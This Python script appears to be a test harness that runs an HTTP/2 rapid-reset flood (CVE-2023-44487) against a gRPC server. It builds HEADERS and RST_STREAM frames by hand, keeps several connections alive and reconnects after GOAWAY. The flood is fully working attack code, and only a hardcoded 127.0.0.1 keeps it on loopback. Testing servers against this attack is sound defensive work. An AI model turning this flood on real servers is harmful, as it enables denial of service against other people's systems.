#!/usr/bin/python3
"""HTTP/2 rapid-reset flood (CVE-2023-44487) against a gRPC server, for tests.

Opens CONNECTIONS connections to 127.0.0.1:PORT and, on each, in a loop for
SECONDS: HEADERS of a gRPC call (end_stream off), then RST_STREAM(CANCEL)
at once, in batches of 100 streams per write. Frames are built by hand (the
header block uses only static-table and literal-without-indexing entries,
so the same bytes serve every stream) to reach the rates of a real attack.
It acknowledges the server's SETTINGS and PINGs, so the server sees a live
peer apart from the resets, and reconnects when the server closes a
connection. Prints one line: streams reset, connections opened, GOAWAYs
received. Exits 0 when it reset at least one stream. Loopback only.

  rapid_reset.py PORT [--connections 4] [--seconds 10] [--path /ping.v1.PingService/Ping]
"""
import argparse
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(index_or_name, value):
    """Literal header field without indexing (RFC 7541 6.2.2)."""
    v = value.encode()
    if isinstance(index_or_name, int):
        head = hpack_int(index_or_name, 4)
    else:
        n = index_or_name.encode()
        head = b"\x00" + hpack_int(len(n), 7) + n
    return head + hpack_int(len(v), 7) + v


def header_block(port, path):
    return (b"\x83"                           # :method POST (static 3)
            + b"\x86"                         # :scheme http (static 6)
            + literal(4, path)                # :path
            + literal(1, "127.0.0.1:%d" % port)  # :authority
            + literal(31, "application/grpc")
            + literal("te", "trailers"))


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        self.inbuf = bytearray()
        self.next_id = 1
        self.goaway = False

    def on_readable(self):
        """Handles what the server sent; False when the connection ended."""
        try:
            data = self.sock.recv(1 << 16)
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        if not data:
            return False
        self.inbuf += data
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            ftype, flags = self.inbuf[3], self.inbuf[4]
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            if ftype == SETTINGS and not flags & ACK:
                self.out += frame(SETTINGS, ACK, 0)
            elif ftype == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif ftype == GOAWAY:
                self.goaway = True
        return True

    def flush(self):
        """Sends what is queued; False when the connection ended."""
        try:
            while self.out:
                n = self.sock.send(self.out)
                del self.out[:n]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            return False
        return True


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--connections", type=int, default=4)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--path", default="/ping.v1.PingService/Ping")
    a = ap.parse_args()
    block = header_block(a.port, a.path)
    rst_payload = struct.pack(">I", CANCEL)
    sel = selectors.DefaultSelector()
    conns = {}
    opened = resets = goaways = 0
    end = time.monotonic() + a.seconds

    def drop(c):
        nonlocal goaways
        goaways += c.goaway
        sel.unregister(c.sock)
        conns.pop(c.sock, None)
        c.sock.close()

    while time.monotonic() < end:
        while len(conns) < a.connections:
            try:
                c = Conn(a.port)
            except OSError:
                time.sleep(0.05)
                break
            opened += 1
            conns[c.sock] = c
            sel.register(c.sock, selectors.EVENT_READ)
        for key, _ in sel.select(timeout=0):
            c = conns.get(key.fileobj)
            if c is not None and not c.on_readable():
                drop(c)
        for c in list(conns.values()):
            if len(c.out) < (256 << 10):  # the server is reading: queue more
                batch = bytearray()
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS, c.next_id, block)
                    batch += frame(RST_STREAM, 0, c.next_id, rst_payload)
                    c.next_id += 2
                resets += 100
                c.out += batch
            if not c.flush() or c.next_id > 0x7FFFFF00:
                drop(c)
        if all(len(c.out) >= (256 << 10) for c in conns.values()) and conns:
            sel.select(timeout=0.01)  # everyone is blocked on the server
    for c in list(conns.values()):
        drop(c)
    print("rapid_reset: streams_reset=%d connections_opened=%d goaways=%d seconds=%.1f"
          % (resets, opened, goaways, a.seconds))
    return 0 if resets > 0 else 1


if __name__ == "__main__":
    sys.exit(main())
